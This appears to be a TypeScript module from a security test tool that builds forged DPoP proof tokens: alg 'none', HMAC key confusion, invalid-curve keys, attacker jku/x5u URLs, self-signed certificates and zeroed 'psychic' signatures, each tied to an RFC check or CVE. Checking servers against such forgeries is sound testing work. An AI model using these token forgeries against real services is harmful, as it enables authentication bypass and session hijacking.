import { createPublicKey, generateKeyPairSync, randomBytes } from 'node:crypto';
import type { Attack, AttackerKeys } from '../attack.ts';
import { selfSignedCertificate } from '../attacker-keys.ts';
import { encode, type JwsAlgorithm, otherEncodings } from '../forge.ts';
import { attackedRequest, type BoundContext, changedProof, headerAttack, proofAttack } from './attacks.ts';
import { proofClaims, proofHeader, publicJwk } from './proof.ts';

/** The right header and claims of a proof as they are signed, and its signature. */
function partsOf(context: BoundContext): { header: string; payload: string; signature: string } {
  const [header = '', payload = '', signature = ''] = changedProof(context).split('.');
  return { header, payload, signature };
}

/** A proof by another algorithm, with the attacker's key for it. */
const byAlgorithm = (context: BoundContext, algorithm: JwsAlgorithm, name: keyof AttackerKeys): string => {
  const key = context.attackerKeys[name];
  return changedProof(context, { header: { alg: algorithm, jwk: publicJwk(key) }, algorithm, key });
};

const EC = { kty: 'EC', crv: 'P-256' };
const zeros = (bytes: number): string => Buffer.alloc(bytes).toString('base64url');

/** The public key of the bound session in the forms that might serve as an HMAC secret. */
function secretsOf({ bound }: BoundContext): Buffer[] {
  const key = createPublicKey(bound.key);
  const { x, y } = key.export({ format: 'jwk' });
  return [
    Buffer.from(key.export({ type: 'spki', format: 'pem' }) as string),
    key.export({ type: 'spki', format: 'der' }) as Buffer,
    Buffer.from(JSON.stringify(publicJwk(bound.key))),
    Buffer.from(`${x}`, 'base64url'),
    Buffer.from(`${x}${y}`),
    Buffer.alloc(0),
  ];
}

/** A certificate of the attacker in base64 (RFC 7515, section 4.1.6). */
const certificateFor = ({ attackerKeys }: BoundContext): string =>
  selfSignedCertificate(attackerKeys.rsa, 'attacker.example', Date.now()).toString('base64');

export const DPOP_HEADER_ATTACKS: readonly Attack[] = [
  proofAttack('none', 'a proof with alg "none"', 'RFC 9449 §4.3, check 5; RFC 8725 §3.2', (context) =>
    ['none', 'None', 'NONE'].flatMap((alg) => {
      const { payload, signature } = partsOf(context);
      const header = encode({ ...proofHeader(context.bound), alg });
      return [`${header}.${payload}.`, `${header}.${payload}.${signature}`, `${header}.${payload}`];
    }),
  ),
  proofAttack(
    'hmac',
    'a proof by HMAC with the public key as the secret',
    'RFC 9449 §4.2: alg must be asymmetric; RFC 8725 §2.1',
    (context) =>
      secretsOf(context).flatMap((key) => {
        const oct = { kty: 'oct', k: key.toString('base64url') };
        return [{}, { jwk: oct }].map((header) =>
          changedProof(context, { header: { alg: 'HS256', ...header }, algorithm: 'HS256', key }),
        );
      }),
  ),
  proofAttack(
    'algorithm',
    'a proof by an algorithm that is not offered',
    'RFC 9449 §5.1: dpop_signing_alg_values_supported',
    (context) => [
      ...(['RS256', 'RS384', 'RS512', 'PS384', 'PS512'] as const).map((alg) =>
        byAlgorithm(context, alg, 'rsa'),
      ),
      byAlgorithm(context, 'ES384', 'p384'),
      byAlgorithm(context, 'ES512', 'p521'),
    ],
  ),
  headerAttack('alg', 'a proof whose alg is missing, or is not that of its key', 'RFC 8725 §3.1', () =>
    [undefined, null, '', 'es256', 'ES256K', 'PS256', 'EdDSA', 'ECDH-ES', ['ES256'], 256].map((alg) => ({
      alg,
    })),
  ),
  headerAttack(
    'typ',
    'a proof whose typ is missing, or is that of another token',
    'RFC 9449 §4.3, check 4; RFC 8725 §3.11',
    () =>
      [undefined, null, '', 'JWT', 'at+jwt', 'DPoP+JWT', 'application/dpop+jwt', 'dpop', ['dpop+jwt']].map(
        (typ) => ({ typ }),
      ),
  ),
  headerAttack('jwk-missing', 'a proof without a public key', 'RFC 9449 §4.3, check 3', ({ bound }) =>
    [undefined, null, {}, [], EC, [publicJwk(bound.key)], JSON.stringify(publicJwk(bound.key))].map(
      (jwk) => ({
        jwk,
      }),
    ),
  ),
  proofAttack(
    'jwk-private',
    'a proof with the private key in its jwk',
    'RFC 9449 §4.3, check 7',
    (context) => [
      changedProof(context, { header: { jwk: context.bound.key.export({ format: 'jwk' }) } }),
      ...(['rsa', 'ed25519'] as const).map((name) => {
        const key = context.attackerKeys[name];
        const algorithm = name === 'rsa' ? 'PS256' : 'EdDSA';
        const header = { alg: algorithm, jwk: key.export({ format: 'jwk' }) };
        return changedProof(context, { header, algorithm, key });
      }),
    ],
  ),
  headerAttack(
    'jwk-point',
    'a proof whose key is not on its curve, or is spelled in another form',
    'RFC 7518 §6.2.1; CVE-2015-7940: invalid curve',
    ({ bound }) => {
      const { x, y } = publicJwk(bound.key);
      const padded = Buffer.concat([Buffer.alloc(1), Buffer.from(`${x}`, 'base64url')]).toString('base64url');
      return [
        { ...EC, x: y, y: x },
        { ...EC, x, y: zeros(32) },
        { ...EC, x: zeros(32), y: zeros(32) },
        { ...EC, x, y: randomBytes(32).toString('base64url') },
        { ...EC, x: padded, y },
        { ...EC, x, y: `${y}=` },
        ...otherEncodings(`${x}`).map((other) => ({ ...EC, x: other, y })),
        { ...EC, crv: 'P-384', x, y },
        { ...EC, crv: 'secp256k1', x, y },
      ].map((jwk) => ({ jwk }));
    },
  ),
  proofAttack('rsa-short', 'a proof by RSA with 1024 bits', 'RFC 7518 §3.5; NIST SP 800-131A', (context) => {
    const { privateKey: key } = generateKeyPairSync('rsa', { modulusLength: 1024 });
    return [
      changedProof(context, { header: { alg: 'PS256', jwk: publicJwk(key) }, algorithm: 'PS256', key }),
    ];
  }),
  headerAttack(
    'key-reference',
    'a proof that names a key by kid, or a URL of one by jku or x5u',
    'RFC 7515 §4.1.2, §4.1.4, §4.1.5; RFC 8725 §3.10',
    ({ attackerUrl, live }) =>
      [{ jku: attackerUrl }, { x5u: attackerUrl }, { kid: live.kid }].flatMap((member) => [
        member,
        { ...member, jwk: undefined },
      ]),
  ),
  headerAttack('certificate', 'a proof with a certificate', 'RFC 7515 §4.1.6; RFC 8725 §3.10', (context) => {
    const x5c = [certificateFor(context)];
    const jwk = { ...publicJwk(context.bound.key), x5c };
    return [{ x5c }, { x5c, jwk: undefined }, { jwk }, { 'x5t#S256': zeros(32) }];
  }),
  headerAttack(
    'crit',
    'a proof with critical or unencoded extensions',
    'RFC 7515 §4.1.11; RFC 7797 §3',
    () => [
      { crit: [] },
      { crit: ['exp'], exp: 0 },
      { crit: ['b64'], b64: false },
      { crit: ['b64'], b64: true },
      { b64: false },
      { zip: 'DEF' },
      { enc: 'A128GCM' },
    ],
  ),
  proofAttack(
    'signature',
    'a proof with another signature, or in another encoding',
    'RFC 9449 §4.3, check 6; CVE-2022-21449; RFC 4648 §3.5',
    (context) => {
      const { header, payload, signature } = partsOf(context);
      const of = (text: string): string => `${header}.${payload}.${text}`;
      const longer = encode({ ...proofClaims(context.bound, attackedRequest(context)), jti: 'another' });
      return [
        ...[zeros(64), zeros(63), '', signature.slice(0, -2), `${signature}AA`, `${signature}=`].map(of),
        ...otherEncodings(signature).map(of),
        `${header}.${longer}.${signature}`,
        `${of(signature)}.`,
        of(signature).replaceAll('.', ' '),
      ];
    },
  ),
];
